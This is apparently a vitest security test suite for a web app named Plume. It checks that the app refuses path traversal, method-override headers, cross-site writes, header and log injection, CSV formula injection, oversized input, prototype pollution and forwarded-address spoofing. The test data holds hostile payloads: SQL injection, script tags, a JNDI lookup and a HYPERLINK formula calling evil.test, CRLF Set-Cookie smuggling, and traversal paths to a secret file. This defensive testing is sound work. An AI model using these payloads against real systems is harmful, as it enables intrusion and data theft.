import { mkdirSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isAddressOrNetwork } from './client-address.ts';
import { serveApp } from './serve.ts';
import { NOW_MS, objectOf, openTestApp, type TestApp } from './test-app.ts';
import { addAccount, type Browser, browser, PASSWORD, signedIn, trail } from './test-people.ts';

let test: TestApp;
let server: Server;
let chief: Browser;
let auditor: Browser;
beforeAll(async () => {
  test = await openTestApp();
  mkdirSync(join(test.folder, 'page', 'assets'), { recursive: true });
  writeFileSync(join(test.folder, 'page', 'index.html'), '<!doctype html><title>Plume</title>');
  writeFileSync(join(test.folder, 'secret.txt'), 'not for the page');
  await addAccount(test, 'chief', 'administrator');
  await addAccount(test, 'auditor', 'auditor');
  chief = await signedIn(test, 'chief');
  auditor = await signedIn(test, 'auditor');
  server = await serveApp(test.app, { host: '127.0.0.1', port: 0 });
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise((done) => server.close(done));
  await test.close();
});

/** Sends a request line as it is, without a client that would tidy it up; answers the status and the body. */
function raw(line: string, headers: readonly string[] = []): Promise<{ status: number; text: string }> {
  const { port } = server.address() as AddressInfo;
  return new Promise((resolve, reject) => {
    let text = '';
    const socket = connect(port, '127.0.0.1', () => {
      socket.write(`${[line, 'Host: plume.test', 'Connection: close', ...headers].join('\r\n')}\r\n\r\n`);
    });
    socket.setEncoding('latin1');
    socket.on('data', (piece) => {
      text += piece;
    });
    socket.once('error', reject);
    socket.once('close', () => resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0), text }));
  });
}

describe('another spelling of an address', () => {
  const PATHS = [
    '//api/v1/people',
    '/api//v1/people',
    '/api/v1//people',
    '/api/v1/people/',
    '/api/v1/people//',
    '/api/v1/./people',
    '/api/v1/../v1/people',
    '/assets/../api/v1/people',
    '/api/v1/people%2F',
    '/api/v1%2Fpeople',
    '/api%2Fv1%2Fpeople',
    '/%61pi/v1/people',
    '/api/v1/%70eople',
    '/api/v1/people%00',
    '/api/v1/people;x=1',
    '/api/v1/people%3Fx',
    '/api/v1/people/%2e%2e/people',
    '/API/V1/PEOPLE',
    '/api/v1\\people',
    'http://plume.test/api/v1/people',
  ];

  it.each(PATHS)('%s opens nothing to a stranger, by any method', async (path) => {
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND']) {
      const { status, text } = await raw(`${method} ${path} HTTP/1.1`);
      expect(text, `${method} ${path}`).not.toContain('chief');
      expect([400, 401, 404, 405, 415], `${method} ${path} ${status}`).toContain(status);
    }
  });

  it.each(PATHS)('%s opens nothing to whose role does not have it', async (path) => {
    const cookie = `Cookie: plume_session=${(await signedIn(test, 'auditor')).cookies.get('plume_session')}`;
    for (const method of ['GET', 'HEAD', 'POST']) {
      const spelt = path.replaceAll('people', 'vehicles').replaceAll('%70eople', '%76ehicles').replaceAll('PEOPLE', 'VEHICLES');
      const { status, text } = await raw(`${method} ${spelt} HTTP/1.1`, [cookie]);
      expect(text).not.toContain('"counts"');
      expect([400, 401, 403, 404, 415], `${method} ${spelt} ${status}`).toContain(status);
    }
  });

  it('HEAD and a method that is not known are refused like the plain request', async () => {
    expect((await raw('HEAD /api/v1/people HTTP/1.1')).status).toBe(401);
    expect((await raw('GET /api/v1/people HTTP/1.1')).status).toBe(401);
    expect((await auditor.request('HEAD', '/vehicles')).status).toBe(403);
    expect((await auditor.request('PUT', '/vehicles', {})).status).toBe(404);
    expect((await auditor.request('HEAD', '/people')).status).toBe(200);
  });

  it.each([
    'X-HTTP-Method-Override: GET',
    'X-Original-URL: /api/v1/setup',
    'X-Rewrite-URL: /healthz',
    'X-Forwarded-Prefix: /healthz',
  ])('is not given by a header (%s)', async (header) => {
    expect((await raw('GET /api/v1/people HTTP/1.1', [header])).status).toBe(401);
    expect(
      (await raw('POST /api/v1/people HTTP/1.1', [header, 'Content-Type: application/json', 'Content-Length: 0'])).status,
    ).toBe(401);
  });

  it.each([
    '/../secret.txt',
    '/assets/../../secret.txt',
    '/..%2fsecret.txt',
    '/%2e%2e/secret.txt',
    '/assets/..%5c..%5csecret.txt',
    '//secret.txt',
  ])('of the page (%s) leaves its folder never', async (path) => {
    const { status, text } = await raw(`GET ${path} HTTP/1.1`);
    expect([400, 404]).toContain(status);
    expect(text).not.toContain('not for the page');
  });
});

describe('a page of another site', () => {
  const send = async (headers: Record<string, string>, body: string, path = '/api/v1/people') => {
    const session = (await signedIn(test, 'chief')).cookies.get('plume_session');
    return await test.app.request(`http://plume.test${path}`, {
      method: 'POST',
      headers: { Cookie: `plume_session=${session}`, Host: 'plume.test', ...headers },
      body,
    });
  };
  const PERSON = JSON.stringify({ name: 'planted', displayName: 'x', role: 'administrator' });

  it.each([
    ['a form', { 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'https://evil.test' }],
    ['a form that says nothing of its origin', { 'Content-Type': 'application/x-www-form-urlencoded' }],
    ['plain text', { 'Content-Type': 'text/plain', Origin: 'https://evil.test' }],
    ['no type at all', { Origin: 'https://evil.test' }],
    ['JSON', { 'Content-Type': 'application/json', Origin: 'https://evil.test' }],
    ['JSON from the same host on another port', { 'Content-Type': 'application/json', Origin: 'http://plume.test:8081' }],
    ['JSON from a longer name', { 'Content-Type': 'application/json', Origin: 'http://plume.test.evil.test' }],
    ['JSON from nowhere', { 'Content-Type': 'application/json', Origin: 'null' }],
    ['JSON with two origins', { 'Content-Type': 'application/json', Origin: 'http://plume.test, https://evil.test' }],
    ['JSON without an origin', { 'Content-Type': 'application/json' }],
    [
      'JSON that a browser calls cross-site',
      { 'Content-Type': 'application/json', Origin: 'http://plume.test', 'Sec-Fetch-Site': 'cross-site' },
    ],
  ])('cannot write with %s', async (_what, headers) => {
    const response = await send(headers, PERSON);
    expect([403, 415]).toContain(response.status);
    expect(await test.db.query("select 1 from users where name = 'planted'")).toEqual([]);
  });

  it('cannot sign anyone in either, so that nobody works under the account of another', async () => {
    const response = await test.app.request('http://plume.test/api/v1/session', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Origin: 'https://evil.test', Host: 'plume.test' },
      body: JSON.stringify({ name: 'chief', password: PASSWORD }),
    });
    expect(response.status).toBe(403);
    expect(response.headers.get('set-cookie')).toBeNull();
  });

  it('is not given leave to read or send by any header', async () => {
    const response = await chief.request('OPTIONS', '/people', undefined, {
      Origin: 'https://evil.test',
      'Access-Control-Request-Method': 'POST',
    });
    for (const [name] of response.headers) expect(name).not.toMatch(/^access-control-/);
  });
});

describe('what people and programs write', () => {
  const EVIL = [
    `'; drop table users; --`,
    `" or 1=1 --`,
    '<script>alert(1)</script>',
    '=HYPERLINK("http://evil.test","x")',
    `$\{jndi:ldap://evil.test}`,
    '%_\\',
  ];

  it('is stored as it is, wherever it goes, and does nothing', async () => {
    for (const [i, text] of EVIL.entries()) {
      expect((await chief.request('POST', '/people', { name: `evil-${i}`, displayName: text, role: 'officer' })).status).toBe(
        201,
      );
      const token = { name: text, permissions: ['fleet.read'], expiresInDays: 1 };
      expect((await chief.request('POST', '/tokens', token)).status).toBe(201);
      const filter = new URLSearchParams({ actor: text, objectId: text });
      expect(await objectOf(await auditor.request('GET', `/audit?${filter}`))).toMatchObject({ entries: [] });
    }
    const { people } = await objectOf(await chief.request('GET', '/people'));
    const names = (people as { displayName: string }[]).map(({ displayName }) => displayName);
    expect(names).toEqual(expect.arrayContaining(EVIL));
    expect(await test.db.query("select to_regclass('users') is not null as there")).toEqual([{ there: true }]);
  });

  it('cannot begin a line in the log or the trail, nor a header', async () => {
    const agent = 'x\u0007 y{"level":60}';
    await browser(test).request('POST', '/session', { name: 'chief', password: PASSWORD }, { 'User-Agent': agent });
    const { sessions } = await objectOf(await chief.request('GET', '/account/sessions'));
    expect((sessions as { userAgent: string }[])[0]?.userAgent).toBe('x  y{"level":60}');
    for (const name of ['a\r\nSet-Cookie: x=y', 'a\nb', 'a\u0000b', 'a\u001b[31m'])
      expect((await chief.request('POST', '/people', { name: 'fine', displayName: name, role: 'officer' })).status).toBe(400);
    const forwarded = await browser(test, '10.0.0.9').request(
      'POST',
      '/session',
      { name: 'chief', password: 'x' },
      { 'X-Forwarded-For': '192.0.2.1\t{"level":60}' },
    );
    expect(forwarded.status).toBe(401);
    expect((await trail(test, 1))[0]).toMatchObject({ address: '10.0.0.9' });
  });

  it('is text to a spreadsheet and not a formula', async () => {
    await chief.request('POST', '/people', { name: 'formula', displayName: '=1+1', role: 'officer' });
    await test.db.batch([
      {
        sql: `insert into audit (at, actor_kind, actor, action, object_kind, object_id, outcome, detail)
          values (now(), 'system', '=1+1', 'test', '+x', '@sum', 'done', '{"a":"x,\\"y\\""}')`,
      },
    ]);
    const bytes = Buffer.from(await (await auditor.request('GET', '/audit/export?format=csv')).arrayBuffer());
    expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
    const text = bytes.toString('utf8');
    const line = text.split('\r\n').find((each) => each.includes("'=1+1"));
    expect(line).toContain(`,'=1+1,,test,'+x,'@sum,done,"{""a"":""x,\\""y\\""""}",`);
    for (const cell of text.split('\r\n').flatMap((each) => each.split(','))) expect(cell).not.toMatch(/^"?[=+@]/);
  });

  it('of a megabyte or a thousand districts is refused before anything is done with it', async () => {
    const long = 'x'.repeat(100_000);
    expect((await chief.request('POST', '/people', { name: 'long', displayName: long, role: 'officer' })).status).toBe(413);
    const districts = Array.from({ length: 1000 }, (_, i) => `${i}`);
    expect((await chief.request('POST', '/people', { name: 'long', displayName: 'x', role: 'officer', districts })).status).toBe(
      400,
    );
    expect((await browser(test).request('POST', '/session', { name: 'chief', password: 'x'.repeat(257) })).status).toBe(400);
  });

  it('and keys that the prototype of an object has are unknown keys', async () => {
    const response = await test.app.request('/api/v1/people', {
      method: 'POST',
      headers: { Authorization: `Bearer ${test.deps.serviceToken}`, 'Content-Type': 'application/json' },
      body: '{"__proto__":{"role":"administrator"},"name":"proto","displayName":"x","constructor":1}',
    });
    expect(response.status).toBe(400);
  });
});

describe('the address of who asks', () => {
  it.each([
    ['10.0.0.1', true],
    ['10.0.0.0/8', true],
    ['2001:db8::/32', true],
    ['10.0.0.0/33', false],
    ['10.0.0.0/', false],
    ['10.0.0.0/8/8', false],
    ['proxy.local', false],
    ['', false],
  ])('is believed from a proxy that is named as an address or network (%j: %s)', (text, expected) => {
    expect(isAddressOrNetwork(text)).toBe(expected);
  });

  it('is the connection’s, whatever a header says', async () => {
    const who = browser(test, '10.5.5.5');
    await who.request('POST', '/session', { name: 'chief', password: 'wrong' }, { 'X-Forwarded-For': '192.0.2.1' });
    expect((await trail(test, 1))[0]).toMatchObject({ address: '10.5.5.5' });
  });

  it('is told by proxies that are trusted, and by no one before them', async () => {
    const behind = await openTestApp({ db: test.db, trustedProxies: ['10.0.0.0/8', '::1'] });
    try {
      const told = async (peer: string, header: string) => {
        await browser(behind, peer).request(
          'POST',
          '/session',
          { name: 'chief', password: 'wrong' },
          { 'X-Forwarded-For': header },
        );
        return (await trail(test, 1))[0]?.address;
      };
      test.state.nowMs = NOW_MS;
      expect(await told('10.1.1.1', '198.51.100.7')).toBe('198.51.100.7');
      expect(await told('10.1.1.1', '1.2.3.4, 198.51.100.8')).toBe('198.51.100.8');
      expect(await told('10.1.1.1', '198.51.100.9, 10.2.2.2')).toBe('198.51.100.9');
      expect(await told('::1', '2001:db8::5')).toBe('2001:db8::5');
      expect(await told('::ffff:10.1.1.1', '198.51.100.10')).toBe('198.51.100.10');
      expect(await told('203.0.113.4', '198.51.100.11')).toBe('203.0.113.4');
      expect(await told('10.1.1.2', 'not an address')).toBe('10.1.1.2');
    } finally {
      behind.stop.abort();
    }
  });
});
